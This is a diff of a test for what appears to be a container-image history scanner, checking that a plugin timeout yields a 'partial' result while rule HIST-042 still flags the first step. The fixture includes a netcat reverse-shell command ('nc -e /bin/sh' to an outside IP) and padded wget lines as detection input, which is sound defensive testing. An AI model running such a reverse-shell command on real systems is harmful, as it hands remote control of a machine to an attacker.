@@ -191,7 +191,7 @@ test('a history made to be slow is ended by the time limit of the plugin, and wh
   const slow = Array.from({ length: 500 }, (_unused, index) => `RUN ${index} ${'wget http://a /tmp/ '.repeat(3_000)}`)
   const started = performance.now()
   const report = await scanWith(history, imageOf(['RUN nc -e /bin/sh 203.0.113.7 9', ...slow]), { pluginTimeout: 500 })
-  expect(report.plugins[0]).toMatchObject({ outcome: 'failed', reason: expect.stringContaining('longer than') })
+  expect(report.plugins[0]).toMatchObject({ outcome: 'partial', reason: expect.stringContaining('longer than') })
   expect(report).toReport({ rule: 'HIST-042', step: 0 })
   expect(performance.now() - started).toBeLessThan(15_000)
 })
